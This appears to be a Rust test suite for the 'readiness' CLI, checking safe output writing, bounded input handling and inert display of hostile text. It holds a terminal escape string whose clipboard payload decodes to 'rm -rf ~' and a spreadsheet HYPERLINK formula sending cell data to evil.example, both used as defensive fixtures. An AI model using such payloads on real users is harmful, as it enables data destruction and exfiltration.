//! The hostile tester's cases of issue 10, end to end: no file the user did not name as
//! output changes, outputs behave as users expect, every input is bounded and nothing waits
//! forever, and nothing from an input reaches a terminal or a spreadsheet as something active.
//! Each test names the item of the issue it pins.

use crate::common;
use readiness::frameworks::Load;

use common::*;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn command() -> Command {
    Command::new(assert_cmd::cargo::cargo_bin("readiness"))
}

/// Runs `cmd` to its end, failing the test if it takes longer than `limit` (it is killed).
fn run_within(mut cmd: Command, limit: Duration) -> Output {
    let mut child = cmd.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("{cmd:?} was still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn copy_example(dir: &Path, name: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::copy(example("small-ecommerce.toml"), &path).unwrap();
    path
}

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
}

/// A character device made in `dir` (only root can), so a wrong write cannot damage the
/// system's own nodes.
fn char_device(dir: &Path, name: &str, minor: u32) -> PathBuf {
    let path = dir.join(name);
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path; creates a node or fails.
    let made = unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, minor)) } == 0;
    assert!(made, "mknod {}: {}", path.display(), std::io::Error::last_os_error());
    path
}

fn is_char_device(path: &Path) -> bool {
    std::os::unix::fs::FileTypeExt::is_char_device(&std::fs::symlink_metadata(path).unwrap().file_type())
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

// ----- item 3: a run that produced nothing -----

#[test]
fn batch_that_scores_nothing_leaves_the_previous_output_and_fails() {
    let dir = tempfile::tempdir().unwrap();
    let output = dir.path().join("portfolio.csv");
    let (empty, bad) = (dir.path().join("empty"), dir.path().join("bad"));
    std::fs::create_dir(&empty).unwrap();
    std::fs::create_dir(&bad).unwrap();
    std::fs::write(bad.join("broken.toml"), "[context\n").unwrap();
    let cases: [(&str, PathBuf); 3] =
        [("missing directory", dir.path().join("no-such-dir/")), ("empty directory", empty), ("only bad files", bad)];
    for (what, input) in cases {
        std::fs::write(&output, "the previous portfolio\n").unwrap();
        let out = command().args(["batch", "--output"]).arg(&output).arg(&input).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{what}: {}", stderr(&out));
        assert_eq!(std::fs::read_to_string(&output).unwrap(), "the previous portfolio\n", "{what}");
    }
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 3, "no temporary left behind");
}

#[test]
fn batch_reads_answer_files_whatever_the_case_of_their_extension() {
    let dir = tempfile::tempdir().unwrap();
    copy_example(dir.path(), "UPPER.TOML");
    copy_example(dir.path(), "lower.toml");
    let out = command().args(["batch", "--format", "jsonl", "--as-of", AS_OF]).arg(dir.path()).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8(out.stdout).unwrap().lines().count(), 2);
}

// ----- item 4: output paths -----

#[test]
fn output_through_a_symbolic_link_writes_its_target_and_keeps_the_link() {
    let dir = tempfile::tempdir().unwrap();
    let (target, link) = (dir.path().join("target.md"), dir.path().join("link.md"));
    std::fs::write(&target, "old").unwrap();
    std::os::unix::fs::symlink("target.md", &link).unwrap();
    let report = assess("small-ecommerce.toml", &["--format", "markdown"]);
    let out = command()
        .args(["assess", "--format", "markdown", "--as-of", AS_OF, "--answers"])
        .arg(example("small-ecommerce.toml"))
        .arg("--output")
        .arg(&link)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link was replaced");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), report);
}

#[test]
fn output_to_a_fifo_or_a_standard_stream_is_written_directly() {
    let dir = tempfile::tempdir().unwrap();
    let template = String::from_utf8(command().arg("template").output().unwrap().stdout).unwrap();
    let fifo = dir.path().join("pipe");
    mkfifo(&fifo);
    let reader = std::thread::spawn({
        let fifo = fifo.clone();
        move || std::fs::read_to_string(fifo).unwrap()
    });
    let mut cmd = command();
    cmd.args(["template", "--output"]).arg(&fifo);
    assert!(run_within(cmd, Duration::from_secs(20)).status.success());
    assert_eq!(reader.join().unwrap(), template);
    assert!(std::os::unix::fs::FileTypeExt::is_fifo(&std::fs::metadata(&fifo).unwrap().file_type()));
    for stream in ["/dev/fd/1", "/proc/self/fd/1"] {
        let out = command().args(["template", "--output", stream]).output().unwrap();
        assert!(out.status.success(), "{stream}: {}", stderr(&out));
        assert_eq!(String::from_utf8(out.stdout).unwrap(), template, "{stream}");
    }
}

#[test]
#[cfg_attr(not(is_root), ignore = "needs root: mknod makes the device nodes")]
fn output_to_a_device_is_written_directly_and_the_node_stays() {
    let dir = tempfile::tempdir().unwrap();
    let null = char_device(dir.path(), "null", 3);
    let out = command().args(["template", "--output"]).arg(&null).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(is_char_device(&null), "the device node was replaced by a file");
}

#[test]
#[cfg_attr(not(is_root), ignore = "needs root: mknod makes the device nodes")]
fn a_write_error_such_as_a_full_disk_exits_non_zero() {
    let dir = tempfile::tempdir().unwrap();
    let full = char_device(dir.path(), "full", 7);
    let out = command().args(["template", "--output"]).arg(&full).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("No space left on device"), "{}", stderr(&out));
    assert!(is_char_device(&full));
}

// ----- item 5: input is output -----

#[test]
fn an_input_named_as_output_is_refused_before_anything_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let answers = copy_example(dir.path(), "acme.toml");
    let link = dir.path().join("acme-link.toml");
    std::os::unix::fs::symlink(&answers, &link).unwrap();
    let original = std::fs::read(&answers).unwrap();
    let a = answers.to_str().unwrap();
    let runs: [&[&str]; 5] = [
        &["assess", "--answers", a, "--output", a],
        &["assess", "--answers", a, "--output", link.to_str().unwrap()],
        &["batch", a, "--output", a],
        &["batch", dir.path().to_str().unwrap(), "--output", a],
        &["assess", "--answers", a, "--benchmark", a, "--output", link.to_str().unwrap()],
    ];
    for args in runs {
        let out = command().args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("is also an input"), "{args:?}: {}", stderr(&out));
        assert_eq!(std::fs::read(&answers).unwrap(), original, "{args:?} changed the input");
    }
}

#[test]
fn template_does_not_replace_an_existing_file_without_force() {
    let dir = tempfile::tempdir().unwrap();
    let filled = copy_example(dir.path(), "filled.toml");
    let original = std::fs::read(&filled).unwrap();
    let out = command().args(["template", "--output"]).arg(&filled).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("already exists") && stderr(&out).contains("--force"), "{}", stderr(&out));
    assert_eq!(std::fs::read(&filled).unwrap(), original);
    let out = command().args(["template", "--force", "--output"]).arg(&filled).output().unwrap();
    assert!(out.status.success());
    assert!(std::fs::read_to_string(&filled).unwrap().starts_with("# readiness answer file"));
}

// ----- item 6: modes, hard links, other writers -----

#[test]
fn a_rewritten_report_keeps_its_mode_its_hard_links_and_other_writers_temporaries() {
    let dir = tempfile::tempdir().unwrap();
    let (report, link, fresh) = (dir.path().join("report.md"), dir.path().join("linked.md"), dir.path().join("new.md"));
    std::fs::write(&report, "old").unwrap();
    std::fs::set_permissions(&report, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::hard_link(&report, &link).unwrap();
    let theirs = dir.path().join(".report.md.Xy12Zq.tmp");
    std::fs::write(&theirs, "another writer's partial report").unwrap();
    let an_hour_ago = std::time::SystemTime::now() - Duration::from_secs(3600);
    std::fs::File::options().write(true).open(&theirs).unwrap().set_modified(an_hour_ago).unwrap();
    for output in [&report, &fresh] {
        let out = command()
            .args(["assess", "--format", "markdown", "--as-of", AS_OF, "--answers"])
            .arg(example("small-ecommerce.toml"))
            .arg("--output")
            .arg(output)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    }
    assert_eq!(mode(&report), 0o644, "an existing file keeps its mode");
    let plain = dir.path().join("plain");
    std::fs::File::create(&plain).unwrap();
    assert_eq!(mode(&fresh), mode(&plain), "a new file gets the umask default");
    assert_eq!(std::fs::read(&link).unwrap(), std::fs::read(&report).unwrap(), "the hard link was split");
    assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "another writer's partial report");
}

// ----- items 7 and 8: memory and time -----

/// An answer file of just under 1 MiB whose regions line lists the same region again and again.
fn duplicated_regions(path: &Path) {
    let text = std::fs::read_to_string(example("small-ecommerce.toml")).unwrap();
    let line = text.lines().find(|l| l.starts_with("regions = ")).unwrap().to_string();
    let items = vec!["\"uk\""; (1024 * 1024 - text.len()) / 6 - 10].join(",");
    std::fs::write(path, text.replace(&line, &format!("regions = [{items}]"))).unwrap();
    assert!(std::fs::metadata(path).unwrap().len() <= 1024 * 1024);
}

#[test]
fn a_megabyte_line_of_duplicates_is_reported_in_bounded_memory_and_time() {
    let dir = tempfile::tempdir().unwrap();
    let huge = dir.path().join("huge.toml");
    duplicated_regions(&huge);
    let mut cmd = command();
    cmd.arg("validate").arg(&huge);
    let started = Instant::now();
    let kib = peak_rss_kib(cmd);
    println!("validate of a 1 MiB line of duplicates: {kib} KiB peak, {:?}", started.elapsed());
    assert!(kib < 64 * 1024, "peak RSS {kib} KiB is over the 64 MiB budget");
    // And it does not abort a batch: the good file beside it is scored.
    copy_example(dir.path(), "good.toml");
    let mut cmd = command();
    cmd.args(["batch", "--format", "jsonl", "--as-of", AS_OF]).arg(dir.path());
    let out = run_within(cmd, Duration::from_secs(60));
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 1, "the good file was scored");
    let errors = stderr(&out);
    assert!(errors.contains("problems found; the first 100 are shown"), "{}", &errors[errors.len() - 300..]);
    assert!(errors.len() < 64 * 1024, "stderr holds {} bytes", errors.len());
}

/// An answer file with `n` unknown keys under [answers].
fn unknown_keys(n: usize) -> String {
    let text = std::fs::read_to_string(example("small-ecommerce.toml")).unwrap();
    let keys: String = (0..n).map(|i| format!("unknown_{i:06} = 1\n")).collect();
    text.replace("[answers]\n", &format!("[answers]\n{keys}"))
}

#[test]
fn validation_time_is_linear_in_the_number_of_unknown_keys() {
    let fw = readiness::frameworks::Frameworks::builtin().unwrap();
    let time = |n: usize| {
        let text = unknown_keys(n);
        let started = Instant::now();
        let err =
            readiness::answers::parse(&fw, "f.toml", &text, readiness::answers::Completeness::Complete).unwrap_err();
        assert_eq!(err.count(), n);
        started.elapsed()
    };
    time(1000);
    let (small, large) = (time(5_000), time(50_000));
    println!("unknown keys: 5,000 in {small:?}, 50,000 in {large:?}");
    // Ten times the keys: linear is ~10x; the quadratic validation took ~100x.
    assert!(large < small * 30, "5,000 keys {small:?}, 50,000 keys {large:?}");
}

// ----- items 9 and 10: unbounded and blocking inputs -----

#[test]
fn benchmark_reads_are_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let long_line = dir.path().join("long.jsonl");
    std::fs::write(&long_line, format!("{{\"overall\": 50, \"pad\": \"{}\"}}\n", "x".repeat(1 << 20))).unwrap();
    for portfolio in [Path::new("/dev/zero"), long_line.as_path()] {
        let mut cmd = command();
        cmd.args(["assess", "--as-of", AS_OF, "--answers"]).arg(example("small-ecommerce.toml"));
        cmd.arg("--benchmark").arg(portfolio);
        let out = run_within(cmd, Duration::from_secs(10));
        assert_eq!(out.status.code(), Some(2), "{}: {}", portfolio.display(), stderr(&out));
    }
}

#[test]
fn a_fifo_given_as_input_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("answers.toml");
    mkfifo(&fifo);
    let good = example("small-ecommerce.toml");
    let runs: [Vec<&std::ffi::OsStr>; 3] = [
        vec!["assess".as_ref(), "--answers".as_ref(), fifo.as_os_str()],
        vec!["assess".as_ref(), "--answers".as_ref(), good.as_os_str(), "--benchmark".as_ref(), fifo.as_os_str()],
        vec!["batch".as_ref(), dir.path().as_os_str()],
    ];
    for args in runs {
        let mut cmd = command();
        cmd.args(&args);
        let out = run_within(cmd, Duration::from_secs(10));
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("named pipe (FIFO), not a regular file"), "{args:?}: {}", stderr(&out));
    }
}

// ----- item 11: nothing from an input drives the terminal -----

const ESCAPES: &str = "\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}]8;;evil.example\u{7}\u{1b}[2J";

fn assert_inert(bytes: &[u8], what: &str) {
    let text = String::from_utf8_lossy(bytes);
    let bad = text.chars().find(|c| readiness::inert::is_unsafe_char(*c) && !matches!(c, '\n' | '\t'));
    assert!(bad.is_none(), "{what}: {:?} reached the terminal in {text}", bad.unwrap());
}

#[test]
fn file_names_with_escape_sequences_are_shown_inert_everywhere() {
    let dir = tempfile::tempdir().unwrap();
    let evil = copy_example(dir.path(), &format!("evil{ESCAPES}\u{202e}.toml"));
    std::fs::write(dir.path().join(format!("bad{ESCAPES}\u{202e}\u{200b}.toml")), "[context\n").unwrap();
    let missing = dir.path().join(format!("x{ESCAPES}"));
    let runs: [Vec<&std::ffi::OsStr>; 5] = [
        vec!["validate".as_ref(), evil.as_os_str()],
        vec!["batch".as_ref(), dir.path().as_os_str()],
        vec!["batch".as_ref(), "--format".as_ref(), "jsonl".as_ref(), dir.path().as_os_str()],
        vec!["batch".as_ref(), "--format".as_ref(), "markdown".as_ref(), dir.path().as_os_str()],
        vec!["assess".as_ref(), "--answers".as_ref(), missing.as_os_str()],
    ];
    for args in runs {
        let out = command().args(&args).output().unwrap();
        assert_inert(&out.stdout, &format!("{args:?} stdout"));
        assert_inert(&out.stderr, &format!("{args:?} stderr"));
    }
}

/// Invisible characters in a company name are refused where the file is read, as the live
/// questionnaire refuses them (they once went through to CSV and JSON Lines); the message
/// names the character and shows the line inert.
#[test]
fn invisible_characters_in_a_company_name_are_refused_where_the_file_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let path = copy_example(dir.path(), "zw.toml");
    let text = std::fs::read_to_string(&path).unwrap().replace("Fernhill Tea Co.", "Fern\u{200b}hill\u{2060} Tea");
    std::fs::write(&path, text).unwrap();
    for format in ["csv", "jsonl"] {
        let out = command().args(["batch", "--format", format, "--as-of", AS_OF]).arg(&path).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{format}: {}", stderr(&out));
        assert!(stderr(&out).contains("the invisible character U+200B at character 5"), "{}", stderr(&out));
        assert!(out.stdout.is_empty(), "{format}: nothing is written");
        assert_inert(&out.stderr, format);
    }
}

/// A JSON report of `example`, edited by `edit`, written to `dir/name`.
fn edited_report(dir: &Path, example_name: &str, name: &str, edit: impl FnOnce(&mut serde_json::Value)) -> PathBuf {
    let mut report = assess_json(example_name);
    edit(&mut report);
    let path = dir.join(name);
    std::fs::write(&path, serde_json::to_string(&report).unwrap()).unwrap();
    path
}

#[test]
fn compare_shows_a_hand_edited_company_name_on_one_line_without_escapes() {
    let dir = tempfile::tempdir().unwrap();
    let name = format!("Fernhill Tea Co.{ESCAPES}\nOverall 100 / 100  Leading");
    let set = |r: &mut serde_json::Value| r["company"] = name.clone().into();
    let (old, new) = (edited_report(dir.path(), "small-ecommerce.toml", "old.json", set), dir.path().join("new.json"));
    std::fs::copy(&old, &new).unwrap();
    let markdown = command().args(["compare", "--format", "markdown"]).arg(&old).arg(&new).output().unwrap();
    assert_inert(&markdown.stdout, "compare --format markdown");
    let out = command().args(["compare"]).arg(&old).arg(&new).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_inert(&out.stdout, "compare");
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(!stdout.lines().any(|l| l.starts_with("Overall 100 / 100")), "a line was forged:\n{stdout}");
}

// ----- item 12: spreadsheet formulas -----

#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised_unless_asked() {
    let dir = tempfile::tempdir().unwrap();
    let path = copy_example(dir.path(), "formula.toml");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Fernhill\")";
    let text = std::fs::read_to_string(&path).unwrap();
    let text = text.replace("\"Fernhill Tea Co.\"", &toml::Value::String(formula.into()).to_string());
    std::fs::write(&path, text).unwrap();
    let company = |extra: &[&str]| {
        let out = command().args(["batch", "--as-of", AS_OF]).args(extra).arg(&path).output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
        let column = reader.headers().unwrap().iter().position(|h| h == "company").unwrap();
        reader.records().next().unwrap().unwrap()[column].to_string()
    };
    assert_eq!(company(&[]), format!("'{formula}"), "the cell starts with a quote, so it is text");
    assert_eq!(company(&["--keep-formulas"]), formula);
}

// ----- item 13: a closed standard error -----

#[test]
fn errors_to_a_closed_standard_error_exit_2_without_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[context\n").unwrap();
    let mut child = command().arg("validate").arg(&bad).stderr(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    drop(child.stderr.take());
    assert_eq!(child.wait().unwrap().code(), Some(2));
}

// ----- item 15: compare, batch to a closed pipe -----

#[test]
fn compare_refuses_two_businesses_and_impossible_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let fernhill = edited_report(dir.path(), "small-ecommerce.toml", "fernhill.json", |_| {});
    let northwind = edited_report(dir.path(), "b2b-software.toml", "northwind.json", |_| {});
    let inflated = edited_report(dir.path(), "small-ecommerce.toml", "inflated.json", |r| {
        r["readiness"]["overall"] = 1e9.into();
        r["technologies"][0]["adoption_timeline"]["start_month"] = u32::MAX.into();
    });
    let cases = [
        (&fernhill, &northwind, "two businesses"),
        (&fernhill, &inflated, "the overall score is 1000000000, expected 0 to 100"),
        (&fernhill, &inflated, "is 4294967295, expected 0 to 120"),
    ];
    for (old, new, expected) in cases {
        let out = command().arg("compare").arg(old).arg(new).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        assert!(stderr(&out).contains(expected), "{}", stderr(&out));
    }
}

#[test]
fn batch_to_a_closed_pipe_still_reports_the_files_it_could_not_score() {
    let dir = tempfile::tempdir().unwrap();
    copy_example(dir.path(), "a-good.toml");
    std::fs::write(dir.path().join("z-bad.toml"), "[context\n").unwrap();
    let mut child = command()
        .args(["batch", "--as-of", AS_OF])
        .arg(dir.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let mut errors = String::new();
    child.stderr.take().unwrap().read_to_string(&mut errors).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(2), "{errors}");
    assert!(errors.contains("z-bad.toml"), "{errors}");
}

// ----- item 16: messages -----

#[test]
fn messages_are_short_and_name_things_as_they_are() {
    let dir = tempfile::tempdir().unwrap();
    let file = copy_example(dir.path(), "not-a-dir.toml");
    let out = command().args(["frameworks", "check"]).arg(&file).output().unwrap();
    assert!(stderr(&out).contains("is a file, not a frameworks directory"), "{}", stderr(&out));

    let key = dir.path().join("key.toml");
    let text = std::fs::read_to_string(example("small-ecommerce.toml")).unwrap();
    std::fs::write(&key, text.replace("[answers]\n", &format!("[answers]\n{} = 1\n", "k".repeat(1000 * 1000))))
        .unwrap();
    let out = command().arg("validate").arg(&key).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stderr.len() < 2000, "a 1 MB key echoed: {} bytes of errors", out.stderr.len());

    let jsonl = dir.path().join("portfolio.jsonl");
    std::fs::write(&jsonl, "{\"overall\": 50,   \"dim_data\": 1 x}\n").unwrap();
    let out = command()
        .args(["assess", "--as-of", AS_OF, "--answers"])
        .arg(example("small-ecommerce.toml"))
        .arg("--benchmark")
        .arg(&jsonl)
        .output()
        .unwrap();
    let errors = stderr(&out);
    let line = errors.lines().position(|l| l.contains("{\"overall\"")).unwrap();
    let (source, caret) = (errors.lines().nth(line).unwrap(), errors.lines().nth(line + 1).unwrap());
    let x = source.find(" x}").unwrap() + 1;
    assert_eq!(caret.find('^'), Some(x), "the caret is under the bad character:\n{errors}");
}

#[test]
fn a_json_report_with_a_byte_order_mark_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("bom.json");
    std::fs::write(&report, format!("\u{feff}{}", assess("small-ecommerce.toml", &["--format", "json"]))).unwrap();
    let out = command().arg("compare").arg(&report).arg(&report).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn an_output_name_near_the_length_limit_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let output = dir.path().join(format!("{}.md", "r".repeat(250)));
    let out = command().args(["template", "--output"]).arg(&output).output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(output.exists());
}

#[test]
fn frameworks_check_of_thousands_of_problems_is_quick_and_short() {
    let dir = tempfile::tempdir().unwrap();
    let fw = dir.path().join("fw");
    command().args(["frameworks", "export"]).arg(&fw).output().unwrap();
    let path = fw.join("technologies.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let line = text.lines().find(|l| l.starts_with("prerequisites = ")).unwrap();
    let dangling: Vec<String> = (0..30_000).map(|i| format!("\"missing_{i:05}\"")).collect();
    std::fs::write(&path, text.replacen(line, &format!("prerequisites = [{}]", dangling.join(", ")), 1)).unwrap();
    let mut cmd = command();
    cmd.args(["frameworks", "check"]).arg(&fw);
    let out = run_within(cmd, Duration::from_secs(60));
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).ends_with("30000 problems found; the first 100 are shown\n"), "{}", stderr(&out));
}

// ----- issue 28, cases 10 and 16: workshops -----

/// A copy of the workshop example in `dir/workshop`.
fn workshop_copy(dir: &Path) -> PathBuf {
    let workshop = dir.join("workshop");
    std::fs::create_dir(&workshop).unwrap();
    for entry in std::fs::read_dir(example("workshop")).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), workshop.join(entry.file_name())).unwrap();
    }
    workshop
}

/// Case 16 of issue 28: a respondent's file given once more through a hard link counted as
/// another respondent (overall 34.94 instead of 35.87). It is the same file: refused, as the
/// same name twice is.
#[test]
fn a_respondent_given_twice_or_through_a_hard_link_is_refused_not_counted_twice() {
    let dir = tempfile::tempdir().unwrap();
    let workshop = workshop_copy(dir.path());
    let first = workshop.join("dev-okafor.toml");
    std::fs::hard_link(&first, workshop.join("zz-again.toml")).unwrap();
    let out = command().args(["merge"]).arg(&workshop).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("zz-again.toml` is given twice (also as"), "{}", stderr(&out));
    std::fs::remove_file(workshop.join("zz-again.toml")).unwrap();
    let out = command().args(["merge"]).arg(&workshop).arg(&first).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("is given twice"), "{}", stderr(&out));
}

/// Case 10 of issue 28: a workshop naming two companies was told only after every file was
/// read (17.5 s for 100,000 files). The reading stops at the first file naming another
/// company: problems in the files after it are not even looked for.
#[test]
fn a_workshop_naming_two_companies_stops_at_the_first_file_that_differs() {
    let dir = tempfile::tempdir().unwrap();
    let workshop = workshop_copy(dir.path());
    let other = std::fs::read_to_string(workshop.join("maya-patel.toml")).unwrap();
    let other = other.replace("company = \"Harbour & Pine Outdoor\"", "company = \"Another Co\"");
    assert!(other.contains("Another Co"), "the example names its company as expected");
    std::fs::write(workshop.join("b-other.toml"), other).unwrap();
    std::fs::write(workshop.join("zz-broken.toml"), "[context\n").unwrap();
    let out = command().args(["merge"]).arg(&workshop).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = stderr(&out);
    assert!(stderr.contains("name different companies"), "{stderr}");
    assert!(!stderr.contains("zz-broken.toml"), "read on past the mismatch: {stderr}");
}

/// Case 12 of issue 28: `frameworks check` accepted NaN and infinity in a pace band's `from`,
/// `raise_from` and `controls_in_place_at`, which then decide every pilot wave and risk.
#[test]
fn frameworks_check_refuses_nan_and_infinity_in_pace_and_risk_settings() {
    let dir = tempfile::tempdir().unwrap();
    let fw = dir.path().join("fw");
    command().args(["frameworks", "export"]).arg(&fw).output().unwrap();
    let scoring = std::fs::read_to_string(fw.join("scoring.toml")).unwrap();
    let edits = [
        ("from = 40.0", "from = nan", "pace bands"),
        ("from = 75.0", "from = inf", "pace bands"),
        ("raise_from = 10.0", "raise_from = inf", "`raise_from` is inf"),
        ("controls_in_place_at = 0.75", "controls_in_place_at = nan", "`controls_in_place_at` is NaN"),
    ];
    for (from, to, expected) in edits {
        assert!(scoring.contains(from), "scoring.toml has `{from}`");
        std::fs::write(fw.join("scoring.toml"), scoring.replacen(from, to, 1)).unwrap();
        let out = command().args(["frameworks", "check"]).arg(&fw).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{to}: {}", stderr(&out));
        assert!(stderr(&out).contains(expected), "{to}: {}", stderr(&out));
    }
}

// ----- issue 28, cases 13 and 14: one definition of unsafe text, every output -----

/// Invisible characters: a soft hyphen, a tag character, a Hangul filler, a zero-width space.
/// Answer files refuse them; a hand-edited JSON report or frameworks data may hold them.
const INVISIBLE: &str = "\u{AD}\u{E0041}\u{3164}\u{200B}";

/// Cases 13 and 14 of issue 28: invisible characters printed raw in the table, and U+009B (an
/// 8-bit CSI) and U+202E from frameworks data printed raw in JSON. One test over every
/// output: assess, render and catalog in every format, batch in every format, the consensus
/// file of merge, and the messages on standard error. The unsafe text comes from frameworks
/// data and a hand-edited JSON report (answer files refuse it: checked first). Nothing unsafe
/// comes out (by the one
/// definition, `readiness::inert::is_unsafe_char`), except in Markdown the word joiner its
/// escaping puts after `@` and `:` to stop autolinks, and JSON keeps the text exactly.
#[test]
fn no_unsafe_character_from_answers_or_frameworks_reaches_any_output() {
    let dir = tempfile::tempdir().unwrap();
    let fw = dir.path().join("fw");
    command().args(["frameworks", "export"]).arg(&fw).output().unwrap();
    let technologies = std::fs::read_to_string(fw.join("technologies.toml")).unwrap();
    let hostile_name = "Multimodal AI\\u009B2J\\u202E\\u00AD";
    std::fs::write(
        fw.join("technologies.toml"),
        technologies.replacen("\"Multimodal AI\"", &format!("\"{hostile_name}\""), 1),
    )
    .unwrap();
    let text = std::fs::read_to_string(example("small-ecommerce.toml")).unwrap();
    let company = format!("Fern{INVISIBLE}hill Tea Co.");
    let refused = dir.path().join("refused.toml");
    std::fs::write(&refused, text.replace("Fernhill Tea Co.", &company)).unwrap();
    let out = command().arg("validate").arg(&refused).output().unwrap();
    assert_eq!(out.status.code(), Some(2), "an answer file refuses invisible characters: {}", stderr(&out));
    let answers = dir.path().join("a.toml");
    std::fs::write(&answers, &text).unwrap();
    let report = dir.path().join("report.json");
    let fw_args = ["--frameworks".as_ref(), fw.as_os_str()];
    let mut runs: Vec<Vec<&std::ffi::OsStr>> = Vec::new();
    for format in ["table", "markdown", "html", "json"] {
        runs.push(vec!["assess".as_ref(), "-f".as_ref(), format.as_ref(), "--answers".as_ref(), answers.as_os_str()]);
        runs.push(vec!["catalog".as_ref(), "technologies".as_ref(), "-f".as_ref(), format.as_ref()]);
        runs.push(vec!["catalog".as_ref(), "-f".as_ref(), format.as_ref()]);
    }
    for format in ["csv", "jsonl", "markdown", "table", "html"] {
        runs.push(vec!["batch".as_ref(), "-f".as_ref(), format.as_ref(), answers.as_os_str()]);
    }
    let json = command()
        .args(["assess", "-f", "json", "--as-of", AS_OF])
        .args(fw_args)
        .arg("--answers")
        .arg(&answers)
        .output();
    let json = json.unwrap();
    assert!(json.status.success(), "{}", stderr(&json));
    let mut parsed: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let decoded = "Multimodal AI\u{9B}2J\u{202E}\u{AD}";
    assert!(parsed.to_string().contains(decoded), "JSON keeps the text exactly");
    parsed["company"] = company.as_str().into();
    std::fs::write(&report, serde_json::to_string(&parsed).unwrap()).unwrap();
    for format in ["table", "markdown", "html"] {
        runs.push(vec!["render".as_ref(), "-f".as_ref(), format.as_ref(), report.as_os_str()]);
    }
    let second = dir.path().join("b.toml");
    std::fs::write(&second, text.replacen("[respondent]", "[respondent]\nrole = \"Owner\"", 1)).unwrap();
    runs.push(vec!["merge".as_ref(), answers.as_os_str(), second.as_os_str()]);
    for args in &runs {
        // A report carries its frameworks' text already; `render` takes none.
        let data = if args[0] == "render" { &[][..] } else { &fw_args[..] };
        let out = command().args(args).args(data).env("COLUMNS", "100").output().unwrap();
        let markdown = args.iter().any(|a| *a == "markdown");
        for (stream, what) in [(&out.stdout, "stdout"), (&out.stderr, "stderr")] {
            let text = String::from_utf8_lossy(stream);
            let bad = text.chars().find(|c| {
                readiness::inert::is_unsafe_char(*c) && !matches!(c, '\n' | '\t') && !(markdown && *c == '\u{2060}')
            });
            assert!(bad.is_none(), "{args:?} {what}: U+{:04X} came out", bad.map_or(0, |c| c as u32));
        }
        assert!(!out.stdout.is_empty(), "{args:?} wrote nothing: {}", stderr(&out));
    }
}

